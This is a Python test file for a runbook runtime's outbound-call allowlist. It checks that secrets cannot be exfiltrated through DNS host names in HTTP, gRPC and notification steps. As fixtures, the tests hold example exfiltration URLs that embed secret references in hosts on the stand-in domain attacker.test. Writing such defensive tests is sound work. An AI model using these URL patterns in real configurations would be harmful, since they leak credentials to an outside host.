"""No secret leaves by DNS: ``${secret.*}`` in a host is refused at validation, a host that
holds a secret value fails the step (``forbidden_target``) before anything resolves it, and
with only name patterns in ``CALL_SERVICE_ALLOWED_HOSTS`` a name none admits is refused
before resolution (HTTP, gRPC and notifications alike). The resolver is injected and
records every name it is asked for."""

from __future__ import annotations

from typing import Any

import attrs
import httpx
import pytest

from runtime import Settings, ValidationError, open_runtime
from runtime.security.outbound import HostAllowlist

SECRET = "Exfil-Token-42"


class Resolver:
    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append(host)
        return ["203.0.113.7"]


def allowlist(patterns: str, resolver: Resolver) -> HostAllowlist:
    return attrs.evolve(HostAllowlist.parse(patterns), resolve=resolver)


def http_step(url: str) -> dict[str, Any]:
    return {"id": "call", "type": "call-service", "config": {"url": url}, "retryPolicy": {"maxRetries": 0}}


def grpc_step(target: str) -> dict[str, Any]:
    return {"id": "call", "type": "call-service", "retryPolicy": {"maxRetries": 0}, "config": {
        "protocol": "grpc", "target": target, "service": "demo.inventory.Inventory", "method": "Lookup"}}


async def run_step(rule: HostAllowlist | None, step: dict[str, Any], *, http: Any = None,
                   **start: Any) -> Any:
    settings = Settings(call_service_allowed_hosts=rule, secrets_env={"RUNBOOKS_SECRET_KEY": SECRET})
    async with open_runtime("memory", settings=settings, http=http) as rt:
        await rt.register_runbook({"id": "probe", "steps": [step]})
        return await rt.wait((await rt.start("probe", **start)).id)


@pytest.mark.parametrize("step", [http_step("http://${secret.KEY}.attacker.test/"),
                                  http_step("https://u:p@x.${ secret.KEY }.attacker.test:8443/a"),
                                  grpc_step("${secret.KEY}.attacker.test:443")])
async def test_a_secret_reference_in_a_host_is_refused_at_validation(step: dict[str, Any]) -> None:
    async with open_runtime("memory") as rt:
        with pytest.raises(ValidationError) as caught:
            await rt.register_runbook({"id": "probe", "steps": [step]})
    assert any(p.path.endswith(("url", "target")) and "secret" in p.message and "DNS" in p.message
               for p in caught.value.problems)


async def test_a_secret_in_userinfo_or_path_is_no_host() -> None:
    async with open_runtime("memory") as rt:
        for url in ("http://u:${secret.KEY}@svc.example/x", "https://svc.example/${secret.KEY}?t=${secret.KEY}",
                    "${secret.WEBHOOK_URL}"):
            await rt.register_runbook({"id": "ok", "steps": [http_step(url)]})


async def test_the_probe_a_host_holding_a_secret_fails_before_any_resolution(autojump_clock: Any) -> None:
    """The probe's URL, with the secret's value reaching the host (here through an input, the
    one way past validation): with an allowlist the resolver is never asked, without one the
    client never sees the request."""
    resolver = Resolver()
    url = "http://${input.label}.attacker.test/"
    checked = await run_step(allowlist("*.corp.example, 10.0.0.0/8", resolver), http_step(url),
                             input={"label": SECRET})
    sent: list[httpx.Request] = []
    client = httpx.AsyncClient(transport=httpx.MockTransport(lambda r: sent.append(r) or httpx.Response(200)))
    async with client:
        unchecked = await run_step(None, http_step(url), http=client, input={"label": SECRET})
    for final in (checked, unchecked):
        error = final.steps["call"].error
        assert (error.code, error.retryable) == ("forbidden_target", False)
        assert "holds a secret value" in error.message and SECRET.lower() not in error.message.lower()
    assert resolver.asked == [] and sent == []


async def test_a_grpc_target_holding_a_secret_fails_before_any_resolution(autojump_clock: Any) -> None:
    resolver = Resolver()
    final = await run_step(allowlist("*", resolver), grpc_step("${input.label}.attacker.test:443"),
                           input={"label": SECRET})
    assert final.steps["call"].error.code == "forbidden_target"
    assert resolver.asked == []


@pytest.mark.parametrize("step", [http_step("http://data-in-labels.attacker.test/"),
                                  grpc_step("data-in-labels.attacker.test:443")])
async def test_with_name_patterns_only_a_name_none_admits_is_not_resolved(step: dict[str, Any],
                                                                          autojump_clock: Any) -> None:
    resolver = Resolver()
    final = await run_step(allowlist("api.example.com, *.corp.example", resolver), step)
    assert final.steps["call"].error.code == "forbidden_target"
    assert "it was not resolved" in final.steps["call"].error.message
    assert resolver.asked == []


async def test_with_an_address_pattern_a_name_is_resolved_to_be_judged(autojump_clock: Any) -> None:
    resolver = Resolver()
    final = await run_step(allowlist("api.example.com, 10.0.0.0/8", resolver),
                           http_step("http://data-in-labels.attacker.test/"))
    assert final.steps["call"].error.code == "forbidden_target"
    assert resolver.asked == ["data-in-labels.attacker.test"]


async def test_an_approval_notification_to_a_host_holding_a_secret_is_not_sent(
        caplog: pytest.LogCaptureFixture) -> None:
    resolver = Resolver()
    settings = Settings(call_service_allowed_hosts=allowlist("*", resolver),
                        secrets_env={"RUNBOOKS_SECRET_KEY": SECRET})
    async with open_runtime("memory", settings=settings) as runtime:
        await runtime.register_runbook({"id": "gate", "steps": [{"id": "ok", "type": "human-approval", "config": {
            "approvers": ["boss"], "notify": {"url": "http://${input.label}.attacker.test/hook"}}}]})
        execution = await runtime.start("gate", input={"label": SECRET})
        await runtime.submit_approval(execution.id, "ok", approver="boss", decision="approve")
        await runtime.wait(execution.id)
    assert resolver.asked == []
    [refused] = [r.getMessage() for r in caplog.records if "notification" in r.getMessage()]
    assert "http://***.attacker.test/hook: the host holds a secret value" in refused
